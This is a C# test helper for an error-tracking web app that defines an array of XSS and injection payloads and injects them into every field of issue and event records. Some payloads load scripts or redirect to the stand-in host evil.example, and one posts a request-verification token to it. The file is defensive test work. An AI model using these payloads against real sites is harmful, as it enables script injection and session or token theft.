using ErrorPipeline.Shared.Contracts;

namespace ErrorPipeline.Web.Tests;

/// <summary>What a hostile site puts into every field there is. Each payload calls <c>pwned()</c> or fetches from another host where it gets through.</summary>
internal static class HostileText
{
    public static readonly string[] Payloads =
    [
        "<script>pwned()</script>",
        "\"><script src=//evil.example/x.js></script>",
        "'\"><img src=x onerror=pwned()>",
        "</title></textarea></style></script><svg onload=pwned()>",
        "<svg><script>pwned()</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
        "javascript:pwned()",
        "JaVaScRiPt:pwned()//",
        "data:text/html,<script>pwned()</script>",
        "https://evil.example/\"onmouseover=pwned()//",
        "<a href=https://evil.example>click</a><base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
        "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
        "<form action=//evil.example><input name=__RequestVerificationToken>",
        "{{constructor.constructor('pwned()')()}} ${pwned()} @(pwned()) <%= pwned() %>",
        "--><!--><script>pwned()</script>",
        "\u202etxt.exe\u2066 \u200b\ufeff\u0000\u001b[31m\u0085\u2028end",
        "\ud800 lone \udfff",
        "]]><script>pwned()</script><![CDATA[",
        "</script><script>pwned()</script>",
        new string('A', 6_000),
        string.Concat(Enumerable.Repeat("e\u0301\u0302\u0303\u0304\u0305\u0306", 200)),
    ];

    /// <summary>A delta that says <paramref name="evil"/> wherever a browser can say anything.</summary>
    public static IssueDelta Delta(int project, string evil, int number)
    {
        var now = TimeProvider.System.GetUtcNow().ToUnixTimeMilliseconds();
        return new()
        {
            ProjectId = project,
            Grouping = new("v1", Some.Hex("evil" + number), [evil, evil]),
            Title = evil,
            Culprit = evil,
            Type = evil,
            Level = number % 2 == 0 ? evil : "error",
            Class = number % 2 == 0 ? evil : "ours",
            Count = 1,
            FirstSeen = now,
            LastSeen = now,
            LastReceived = now,
            Hours = [new(now / 3_600_000, evil, 1)],
            Facets = [.. new[] { "browser", "os", "device", "page", "release", "environment", "tag:" + evil }.Select(d => new FacetCount(d, evil, 1))],
            Users = [evil],
            Releases = [new(evil, 1, now, now)],
            Samples = [Sample(evil, number, now)],
        };
    }

    private static EventSample Sample(string evil, int number, long now) => new(
        new() { EventId = Some.Hex("event" + number), At = now, ReceivedAt = now, Browser = evil, Os = evil, Device = evil, Url = evil, Page = evil, UserKey = evil },
        Error(evil) with { Causes = [Error(evil)] },
        new()
        {
            Level = evil,
            Mechanism = evil,
            Release = evil,
            Environment = evil,
            Class = evil,
            ClassEvidence = evil,
            Tags = [new(evil, evil)],
            Referrer = evil,
            Meta = evil,
            Breadcrumbs = [new(long.MaxValue, evil, evil, evil, evil), new(null, null, null, null, null)],
            User = new(evil, evil, evil),
            Sdk = evil,
        },
        "novelty" + number);

    private static ErrorDetail Error(string evil) => new()
    {
        Type = evil,
        Message = evil,
        RawStack = evil,
        Frames = [new() { Function = evil, File = evil, Line = 1, Column = 1, InApp = true }, new()],
    };
}
